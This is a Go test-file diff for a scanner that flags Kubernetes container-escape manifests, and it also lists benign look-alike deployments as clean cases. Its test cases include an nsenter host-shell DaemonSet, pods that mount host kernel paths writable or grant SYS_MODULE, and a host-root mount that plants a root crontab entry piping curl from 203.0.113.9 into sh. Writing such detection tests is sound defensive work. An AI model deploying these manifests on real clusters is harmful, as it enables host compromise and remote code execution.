@@ -152,6 +152,13 @@ func manifestCases() []carrierCase {
 		"apiVersion: apps/v1\nkind: DaemonSet\nmetadata:\n  name: node-shell\nspec:\n  template:\n    spec:\n      hostPID: true\n      hostNetwork: true\n      containers:\n      - name: s\n        image: alpine\n        securityContext:\n          privileged: true\n        args: [\"nsenter\", \"--target\", \"1\", \"--mount\", \"--uts\", \"--ipc\", \"--net\", \"--pid\", \"--\", \"bash\"]\n",
 		"apiVersion: v1\nkind: Pod\nmetadata:\n  name: hp\nspec:\n  volumes:\n  - name: root\n    hostPath: {path: /, type: Directory}\n  containers:\n  - name: c\n    image: ubuntu\n    volumeMounts:\n    - name: root\n      mountPath: /mnt/root\n    command: [\"/bin/sh\", \"-c\", \"echo '* * * * * root curl -s http://203.0.113.9/k|sh' >> /mnt/root/etc/crontab; sleep infinity\"]\n",
 	}
+	esc = append(esc,
+		// the node's kernel hooks mounted writable; module loading granted to an idle shell image
+		"apiVersion: v1\nkind: Pod\nmetadata:\n  name: sp\nspec:\n  containers:\n  - name: sp\n    image: ubuntu\n    command: [\"/bin/sh\", \"-c\", \"--\"]\n    args: [\"while true; do sleep 30; done;\"]\n    volumeMounts:\n    - mountPath: /sysproc\n      name: nodeproc\n  volumes:\n  - name: nodeproc\n    hostPath:\n      path: /proc/sys/kernel\n",
+		"apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: k}\nspec:\n  template:\n    spec:\n      volumes:\n      - {name: ks, hostPath: {path: /sys/kernel/}}\n      containers:\n      - name: k\n        image: alpine:3.20\n        command: [sleep, infinity]\n        volumeMounts:\n        - {name: ks, mountPath: /hk}\n",
+		"apiVersion: v1\nkind: Pod\nmetadata:\n  name: ml\nspec:\n  containers:\n  - name: ml\n    image: docker.io/library/debian:bookworm\n    securityContext:\n      capabilities:\n        add: [\"SYS_MODULE\"]\n    command: [\"sleep\", \"infinity\"]\n",
+		"apiVersion: v1\nkind: Pod\nmetadata: {name: m2}\nspec:\n  containers:\n  - name: m2\n    image: busybox\n    args: [tail, -f, /dev/null]\n    securityContext: {capabilities: {add: [CAP_SYS_MODULE, NET_ADMIN]}}\n",
+	)
 	for i, e := range esc {
 		add(fmt.Sprintf("/tmp/.k/esc%d.yaml", i), e, []string{RuleEscape}, audit.High)
 	}
@@ -324,6 +331,9 @@ func carrierCleanCases() []carrierCase {
 		cl("carrier", "/work/repo/.github/workflows/ci.yml", "name: ci\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-go@v5\n      - run: go test ./...\n      - name: lint\n        run: |\n          curl -sSfL -o golangci.sh https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh\n          sh golangci.sh -b $(go env GOPATH)/bin v1.57.2\n          golangci-lint run\n"),
 		cl("carrier", "/etc/supervisor/conf.d/web.conf", "[program:web]\ncommand=/usr/local/bin/gunicorn -b 0.0.0.0:8000 app:app\nautorestart=true\n[program:worker]\ncommand=/bin/sh -c \"cd /app && exec celery -A app worker\"\n"),
 		cl("carrier", "/opt/deploy/k8s/ds.yaml", "apiVersion: apps/v1\nkind: DaemonSet\nmetadata:\n  name: node-exporter\nspec:\n  template:\n    spec:\n      hostPID: true\n      hostNetwork: true\n      containers:\n      - name: ne\n        image: prom/node-exporter\n        args: [\"--path.rootfs=/host\"]\n        volumeMounts:\n        - {name: root, mountPath: /host, readOnly: true}\n      volumes:\n      - name: root\n        hostPath: {path: /}\n"),
+		// a CNI agent needs module loading; a tuning init container writes /proc/sys read-only-mounted elsewhere
+		cl("carrier", "/opt/deploy/k8s/cni.yaml", "apiVersion: apps/v1\nkind: DaemonSet\nmetadata:\n  name: cni-agent\nspec:\n  template:\n    spec:\n      containers:\n      - name: agent\n        image: quay.io/example/cni-agent:v1.16.3\n        command: [cni-agent]\n        securityContext:\n          capabilities:\n            add: [NET_ADMIN, SYS_MODULE, SYS_ADMIN]\n"),
+		cl("carrier", "/opt/deploy/k8s/exporter.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: px}\nspec:\n  containers:\n  - name: px\n    image: prom/node-exporter\n    volumeMounts:\n    - {name: proc, mountPath: /host/proc, readOnly: true}\n  volumes:\n  - {name: proc, hostPath: {path: /proc}}\n"),
 		// admin tunnels and plain ssh
 		cl("ssh-tunnel", "/usr/local/bin/db-tunnel.sh", "#!/bin/sh\nssh -f -N -L 5432:db.internal:5432 ops@bastion.example.com\n"),
 		cl("ssh-tunnel", "/usr/local/bin/backup.sh", "#!/bin/sh\nssh backup@nas.example.com 'tar czf - /data' > /var/backups/data.tgz\nrsync -az -e 'ssh -i /root/.ssh/id_backup' /srv/ backup@nas.example.com:/srv/\nscp /etc/app.conf backup@nas.example.com:conf/\n"),
